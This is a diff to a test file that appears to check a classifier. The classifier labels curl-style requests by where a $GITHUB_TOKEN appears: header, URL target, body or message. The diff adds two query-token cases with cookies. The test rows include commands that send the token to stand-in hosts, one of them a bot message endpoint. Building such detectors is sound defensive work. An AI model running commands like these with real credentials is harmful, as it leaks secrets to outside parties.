@@ -115,6 +115,8 @@ it("tells a key in its own place of a request from one in a message", { timeout:
     ['https://header.example/ -H "Authorization: Bearer $GITHUB_TOKEN" -d "{}"', "header"],
     ['-u "me:$GITHUB_TOKEN" http://basic.example/', "header"],
     ['"https://target.example/v1?key=$GITHUB_TOKEN"', "target"],
+    ['"https://settings.example/?token=$GITHUB_TOKEN" -H "Cookie: user_session=Zm9yZWlnbg9f"', "message"],
+    ['"https://polite.example/?token=$GITHUB_TOKEN" -H "Cookie: lang=en_GB_and_more"', "target"],
     ['http://body.example/ -d grant=a -d "client_secret=$GITHUB_TOKEN"', "body"],
     ['https://parts.example/ -F "token=$GITHUB_TOKEN" -F channel=a', "body"],
     ['http://bot.example/bot7123456789:AAHother/sendMessage -d chat_id=42 -d "text=$GITHUB_TOKEN"', "message"],
